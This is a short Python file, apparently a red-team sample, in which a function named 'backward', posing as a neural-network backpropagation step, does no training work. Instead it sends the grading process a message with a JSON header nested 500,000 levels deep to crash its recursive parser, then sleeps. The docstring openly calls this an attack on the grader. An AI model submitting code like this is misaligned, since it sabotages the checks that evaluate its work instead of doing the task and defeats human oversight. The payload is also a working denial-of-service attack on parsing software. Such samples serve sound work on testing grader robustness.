"""Attack: answer the grader with a message whose JSON header nests half a million levels deep (inside the
header size limit), then wait: the grader's JSON reader recurses."""
import os
import struct
import sys
import time


def backward(weights, biases, activations, targets):
    header = b"[" * 500_000
    os.write(int(sys.argv[2]), b"BPG1" + struct.pack(">I", len(header)) + header)
    time.sleep(30)
